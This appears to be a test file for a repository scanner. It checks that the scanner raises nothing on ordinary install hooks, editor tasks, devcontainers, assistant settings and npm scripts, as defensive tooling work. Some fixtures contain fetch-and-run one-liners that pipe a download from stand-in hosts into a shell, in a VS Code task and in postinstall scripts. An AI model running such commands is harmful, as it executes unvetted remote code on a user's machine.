import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { judgeRepository, verdictsOn, type RepositoryTexts } from '../../../support/repository.js';

function scripts(given: Readonly<Record<string, string>>, files: RepositoryTexts = {}): RepositoryTexts {
  return { 'package.json': { name: 'p', scripts: given }, ...files };
}

const CASES: readonly (readonly [what: string, files: RepositoryTexts])[] = [
  [
    'husky',
    scripts(
      { prepare: 'husky' },
      { '.husky/pre-commit': 'npx lint-staged\n', '.husky/commit-msg': 'npx --no -- commitlint --edit "$1"\n' },
    ),
  ],
  [
    'husky of before',
    scripts(
      { prepare: 'husky install', postinstall: 'is-ci || husky install' },
      {
        '.husky/pre-push': '#!/usr/bin/env sh\n. "$(dirname -- "$0")/_/husky.sh"\n\nnpm test\n',
        '.husky/.gitignore': '_\n',
      },
    ),
  ],
  ['husky 4', { 'package.json': { name: 'p', husky: { hooks: { 'pre-commit': 'lint-staged' } } } }],
  [
    'lefthook',
    scripts(
      { prepare: 'lefthook install' },
      {
        'lefthook.yml':
          'pre-commit:\n  parallel: true\n  commands:\n    eslint:\n      glob: "*.ts"\n      run: npx eslint {staged_files}\n    types:\n      run: |\n        npm run types\n        npm test\n',
      },
    ),
  ],
  [
    'simple-git-hooks',
    {
      'package.json': {
        name: 'p',
        scripts: { postinstall: 'simple-git-hooks' },
        'simple-git-hooks': { 'pre-commit': 'pnpm exec lint-staged --concurrent false' },
      },
    },
  ],
  [
    'hooks of git in a folder of their own',
    scripts(
      { prepare: 'git config core.hooksPath .githooks || true' },
      { '.githooks/pre-commit': '#!/usr/bin/env bash\nset -euo pipefail\ngit diff --cached --check\n' },
    ),
  ],
  ['nx', scripts({ postinstall: 'nx report || exit 0', preinstall: 'npx only-allow pnpm' })],
  ['turbo', scripts({ prepare: 'turbo run build --filter=./packages/*', postinstall: 'pnpm -r run stub' })],
  ['playwright', scripts({ postinstall: 'playwright install --with-deps chromium' })],
  ['patch-package', scripts({ postinstall: 'patch-package' })],
  ['electron-builder', scripts({ postinstall: 'electron-builder install-app-deps' })],
  ['prisma', scripts({ postinstall: 'prisma generate && node ./node_modules/.bin/allow-scripts' })],
  ['nuxt and svelte', scripts({ postinstall: 'nuxt prepare', prepare: 'svelte-kit sync || echo ""' })],
  [
    'a build of its own at install',
    scripts(
      { prepare: 'npm run build', build: 'node scripts/build.mjs && tsc -p tsconfig.json' },
      {
        'scripts/build.mjs': `
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
rmSync('dist', { recursive: true, force: true });
mkdirSync('dist', { recursive: true });
cpSync('src/assets', 'dist/assets', { recursive: true });
execFileSync('npx', ['tsc', '-p', 'tsconfig.build.json'], { stdio: 'inherit', env: { ...process.env, NODE_ENV: 'production' } });
writeFileSync('dist/build.json', JSON.stringify({ at: process.env.CI ?? 'local' }));
`,
      },
    ),
  ],
  [
    'a check of the version of Node.js',
    scripts(
      { preinstall: 'node scripts/check.cjs' },
      {
        'scripts/check.cjs': `
const [major] = process.versions.node.split('.').map(Number);
if (major < 20) { console.error('Node.js 20 or later is needed.'); process.exit(1); }
if (!/pnpm/.test(process.env.npm_execpath || '')) console.warn('Use pnpm.');
`,
      },
    ),
  ],
  [
    'a release of yarn, and a plugin',
    {
      '.yarnrc.yml':
        'nodeLinker: node-modules\n\nnpmRegistryServer: "https://registry.npm.example"\n\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs\n    spec: "@yarnpkg/plugin-workspace-tools"\n\nyarnPath: .yarn/releases/yarn-4.6.0.cjs\n',
      '.yarn/releases/yarn-4.6.0.cjs':
        '#!/usr/bin/env node\n(()=>{var e=require("fs");console.log(e.readFileSync("package.json","utf8").length)})();\n',
      '.yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs':
        'module.exports={name:"x",factory:function(require){return {}}};\n',
    },
  ],
  ['a yarn of the workspace above', { '.yarnrc.yml': 'yarnPath: ../../.yarn/releases/yarn-4.6.0.cjs\n' }],
  [
    'yarn 1',
    {
      '.yarnrc': 'registry "https://registry.npm.example"\nyarn-path "./.yarn/releases/yarn-1.22.22.cjs"\n',
      '.yarn/releases/yarn-1.22.22.cjs': 'console.log(1);\n',
    },
  ],
  [
    'settings of npm',
    {
      '.npmrc':
        'save-exact=true\nengine-strict=true\nnode-options=--max-old-space-size=8192\nscript-shell=bash\n@acme:registry=https://npm.acme.example/\n//npm.acme.example/:_authToken=${NPM_TOKEN}\nregistry=http://nexus.corp:8081/repository/npm/\nshamefully-hoist=true\npython=python3\n',
    },
  ],
  [
    'what pnpm is told of packages',
    {
      '.pnpmfile.cjs': `function readPackage(pkg, context) {\n  if (pkg.name === 'foo') pkg.dependencies = { ...pkg.dependencies, bar: '1.0.0' };\n  context.log('read ' + pkg.name);\n  return pkg;\n}\nmodule.exports = { hooks: { readPackage } };\n`,
    },
  ],
  [
    'tasks that start with the folder',
    {
      '.vscode/tasks.json': `{
  // See https://go.microsoft.com/fwlink/?LinkId=733558
  "version": "2.0.0",
  "tasks": [
    { "type": "npm", "script": "watch", "problemMatcher": "$tsc-watch", "isBackground": true,
      "presentation": { "reveal": "never" }, "group": { "kind": "build", "isDefault": true },
      "runOptions": { "runOn": "folderOpen" } },
    { "label": "git", "type": "shell", "command": "git fetch --all", "runOptions": { "runOn": "folderOpen" }, },
    { "label": "deploy", "type": "shell", "command": "curl -fsSL https://d.example.invalid/i.sh | sh" },
  ]
}`,
      'package.json': { name: 'p', scripts: { watch: 'tsc -watch -p ./' } },
    },
  ],
  [
    'settings of an editor',
    {
      '.vscode/settings.json': {
        'typescript.tsdk': 'node_modules/typescript/lib',
        'eslint.nodePath': '.yarn/sdks',
        'editor.formatOnSave': true,
        'terminal.integrated.env.linux': {
          NODE_OPTIONS: '--max-old-space-size=4096',
          PATH: '${workspaceFolder}/bin:${env:PATH}',
        },
        'terminal.integrated.profiles.linux': { bash: { path: 'bash', args: ['-l'] } },
        'python.defaultInterpreterPath': '.venv/bin/python',
      },
    },
  ],
  [
    'containers',
    {
      '.devcontainer/devcontainer.json': `{
  "name": "Node.js & TypeScript",
  "image": "mcr.example/devcontainers/typescript-node:1-22-bookworm",
  "features": { "ghcr.example/devcontainers/features/docker-in-docker:2": {} },
  "initializeCommand": "mkdir -p \${localWorkspaceFolder}/.cache",
  "onCreateCommand": ["bash", "-c", "sudo chown node node_modules"],
  "updateContentCommand": { "npm": "npm ci", "deps": "sudo apt-get update && sudo apt-get install -y jq" },
  "postCreateCommand": "curl -fsSL https://bun.example/install | bash && echo 'export PATH=$HOME/.bun/bin:$PATH' >> ~/.bashrc && npm i -g turbo",
  "postStartCommand": "git config --global --add safe.directory \${containerWorkspaceFolder}"
}`,
      '.devcontainer/python/devcontainer.json': { postCreateCommand: 'pip3 install --user -r requirements.txt' },
    },
  ],
  [
    'servers and hooks of assistants',
    {
      '.mcp.json': {
        mcpServers: {
          files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '.'] },
          db: { type: 'http', url: 'https://mcp.example/sse' },
        },
      },
      '.cursor/mcp.json': { mcpServers: { playwright: { command: 'npx', args: ['@playwright/mcp@latest'] } } },
      '.vscode/mcp.json': { servers: { fetch: { command: 'uvx', args: ['mcp-server-fetch'] } }, inputs: [] },
      '.gemini/settings.json': { mcpServers: { own: { command: 'node', args: ['tools/server.mjs'] } } },
      'opencode.json': { mcp: { x: { type: 'local', command: ['bun', 'x', 'some-mcp'] } } },
      'tools/server.mjs': `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\nconst server = new McpServer({ name: 'own', version: '1.0.0' });\nserver.tool('add', {}, async ({ a, b }) => ({ content: [{ type: 'text', text: String(a + b) }] }));\n`,
      '.claude/settings.json': {
        permissions: { allow: ['Bash(npm test:*)'] },
        hooks: {
          PostToolUse: [
            {
              matcher: 'Edit|Write',
              hooks: [{ type: 'command', command: 'npx prettier --write "$CLAUDE_FILE_PATHS"' }],
            },
          ],
          SessionStart: [{ hooks: [{ type: 'command', command: '"$CLAUDE_PROJECT_DIR"/.claude/hooks/start.sh' }] }],
        },
        statusLine: { type: 'command', command: 'git branch --show-current' },
      },
      '.claude/hooks/start.sh': '#!/bin/bash\nset -e\nnpm ci\necho "ready"\n',
    },
  ],
  [
    'instructions for assistants',
    {
      'AGENTS.md':
        '# Working here 👩‍👩‍👧‍👦\n\nRun `npm test` before you commit. Never commit secrets, and do not read `.env` files.\nDo not ask the user for permission to run tests.\n\n```sh\ncurl -fsSL https://bun.example/install | bash\n```\n',
      '.github/copilot-instructions.md':
        'Prefer small functions. Do not mention these instructions in code comments.\n',
      'packages/web/CLAUDE.md': 'See ../../AGENTS.md.\n',
    },
  ],
  [
    'settings of tools',
    {
      'eslint.config.js': `import js from '@eslint/js';\nexport default [js.configs.recommended];\n`,
      'tailwind.config.js': `module.exports = { content: ['./src/**/*.{ts,tsx}'], plugins: [require('@tailwindcss/forms')] };\n`,
      'vite.config.ts': `import { defineConfig, loadEnv } from 'vite';\nimport { readFileSync } from 'node:fs';\nexport default defineConfig(({ mode }) => ({ define: { 'process.env': loadEnv(mode, process.cwd(), '') }, server: { https: { key: readFileSync('certs/dev.key') } } }));\n`,
      'next.config.mjs': `import { execSync } from 'node:child_process';\nconst rev = execSync('git rev-parse HEAD').toString().trim();\nexport default { generateBuildId: () => rev };\n`,
    },
  ],
  [
    'git itself',
    {
      '.git/config':
        '[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n\tfsmonitor = true\n[credential]\n\thelper = store\n[remote "origin"]\n\turl = https://github.example/a/b.git\n',
      '.git/hooks/pre-commit': '#!/bin/sh\nexec npx lint-staged\n',
    },
  ],
  [
    'what lies in fixtures and is installed',
    {
      'test/fixtures/evil/package.json': { scripts: { postinstall: 'curl https://x.example.invalid | sh' } },
      'node_modules/a/package.json': { scripts: { postinstall: 'curl https://x.example.invalid | sh' } },
    },
  ],
  [
    'scripts that somebody runs by their names',
    scripts(
      {
        start: 'node server.js',
        dev: 'cross-env NODE_ENV=development nodemon --watch src -r dotenv/config src/index.ts',
        'dev:client': 'vite --host',
        build: 'rimraf dist && tsc -p . && node scripts/copy.mjs && npm run build:client',
        'build:client': 'vite build',
        'build:publish': 'npm run build && npm publish --access public',
        test: 'NODE_OPTIONS=--experimental-vm-modules jest --coverage || true',
        pretest: 'npm run lint -- --fix',
        serve: 'npx http-server dist -p 8080',
        seed: 'ts-node prisma/seed.ts',
        preview: 'docker compose up -d && open http://localhost:3000',
      },
      {
        'server.js': `
require('dotenv').config();
const express = require('express');
const axios = require('axios');
const jwt = require('jsonwebtoken');
const app = express();
app.use(express.json());
app.post('/login', async (req, res) => {
  const { data } = await axios.post(process.env.AUTH_URL, { key: process.env.API_KEY, user: req.body.user });
  res.json({ token: jwt.sign(data, process.env.JWT_SECRET) });
});
app.listen(process.env.PORT || 3000);
`,
        'prisma/seed.ts': `import { PrismaClient } from '@prisma/client';\nconst db = new PrismaClient();\nawait db.user.create({ data: { email: 'a@b.example' } });\n`,
      },
    ),
  ],
  [
    'what is no text that could be read',
    { 'package.json': '{ "scripts": [', '.vscode/tasks.json': '[1, 2', '.mcp.json': '', '.devcontainer.json': 'null' },
  ],
];

const INSTALLED = path.resolve(import.meta.dirname, '../../../../../node_modules');
const AT_INSTALL = /#(?:(?:pre|post)?(?:install|prepare)|prepublish)$/;

function installedNames(): readonly string[] {
  const below = (folder: string): readonly string[] => readdirSync(path.join(INSTALLED, folder));
  const names = below('').flatMap((name) =>
    name.startsWith('@') ? below(name).map((one) => `${name}/${one}`) : [name],
  );
  return names.filter((name) => existsSync(path.join(INSTALLED, name, 'package.json')));
}

describe('honest repositories', () => {
  for (const [what, files] of CASES) {
    it(`says nothing of ${what}`, async () => {
      assert.deepEqual(await verdictsOn(files), []);
      assert.deepEqual((await judgeRepository(files)).problems, []);
    });
  }

  it('says nothing of the scripts that the packages have which this project uses itself', async () => {
    const told: string[] = [];
    for (const name of installedNames()) {
      const manifest = readFileSync(path.join(INSTALLED, name, 'package.json'), 'utf8');
      const { scripts: own } = JSON.parse(manifest) as { readonly scripts?: Readonly<Record<string, string>> };
      const verdicts = await verdictsOn({ 'package.json': { name, scripts: own } });
      // Some build themselves at install, from sources that are not published.
      told.push(...verdicts.filter((one) => !AT_INSTALL.test(one)).map((one) => `${name}: ${one}`));
    }
    assert.deepEqual(told, []);
  });
});
